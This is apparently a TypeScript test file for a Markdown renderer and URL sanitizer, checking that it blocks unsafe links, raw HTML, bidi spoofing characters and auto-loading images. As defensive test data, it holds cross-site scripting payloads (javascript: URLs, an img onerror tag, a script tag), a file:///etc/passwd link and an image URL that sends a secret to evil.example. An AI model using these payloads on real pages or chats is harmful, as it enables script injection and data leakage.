import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown } from "./Markdown";
import { safeUrl } from "./safeUrl";

describe("safeUrl", () => {
  it.each(["https://example.com/a?b=1", "http://localhost:8000/", "mailto:someone@example.com"])("keeps %s", (url) => {
    expect(safeUrl(url)).toBe(url);
  });

  it.each([
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "/relative/path",
    "#anchor",
    "",
  ])("drops %j", (url) => {
    expect(safeUrl(url)).toBeUndefined();
  });
});

describe("Markdown", () => {
  const html = (text: string) => renderToStaticMarkup(<Markdown text={text} />);

  it("shows a bidi override as [U+202E] instead of reversing the rest of the line", () => {
    const out = html("Thanks, Zoë \u202eevil! Here is what you told me:\n\n- **\u2067x** [\u202elink](https://example.com/\u202e)");
    expect(out).toContain("Thanks, Zoë [U+202E]evil! Here is what you told me:");
    expect(out).toContain("<strong>[U+2067]x</strong>");
    expect(out).toContain(">[U+202E]link</a>");
    expect(out).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    expect(html("שלום\u200f עולם")).toContain("שלום\u200f עולם"); // marks stay
  });

  it("renders markdown", () => {
    expect(html("**bold** and `code`")).toContain("<strong>bold</strong>");
  });

  it("never renders raw HTML", () => {
    const out = html('<img src=x onerror="alert(1)"><script>alert(2)</script>');
    expect(out).not.toContain("<img");
    expect(out).not.toContain("<script");
  });

  it("removes unsafe link targets and keeps safe ones", () => {
    const bad = html("[click](javascript:alert(1))");
    expect(bad).not.toContain("javascript:");
    expect(bad).not.toContain("href");
    const good = html("[docs](https://example.com)");
    expect(good).toContain('href="https://example.com"');
    expect(good).toContain('rel="noopener noreferrer nofollow"');
  });

  it("drops unsafe image sources", () => {
    const out = html("![x](data:image/svg+xml;base64,AAAA)");
    expect(out).not.toContain("data:");
    expect(out).not.toContain("<img");
    expect(out).not.toContain("href");
    expect(out).toContain(">x<");
  });

  it("never renders an image: it becomes a link that fetches nothing until clicked", () => {
    const out = html("See ![the chart](https://evil.example/x.png?d=secret \"Chart\") here");
    expect(out).not.toContain("<img");
    expect(out).toContain(
      '<a title="Chart" class="markdown-image-link" data-markdown-image="true" href="https://evil.example/x.png?d=secret" target="_blank" rel="noopener noreferrer nofollow">the chart</a>',
    );
  });

  it("labels an image without alt text 'image', reference images included", () => {
    const out = html("![](https://evil.example/a.png)\n\n![][ref]\n\n[ref]: https://evil.example/b.png");
    expect(out).not.toContain("<img");
    expect(out.match(/data-markdown-image="true"/g)).toHaveLength(2);
    expect(out).toContain('href="https://evil.example/a.png"');
    expect(out).toContain('href="https://evil.example/b.png"');
    expect(out.match(/>image</g)).toHaveLength(2);
  });

  it("an image inside a link is just its label (no nested links, no image)", () => {
    const out = html("[![badge](https://evil.example/badge.svg)](https://example.com/)");
    expect(out).not.toContain("<img");
    expect(out).not.toContain("evil.example");
    expect(out.match(/<a /g)).toHaveLength(1);
    expect(out).toContain('href="https://example.com/"');
    expect(out).toContain(">badge</a>");
  });
});
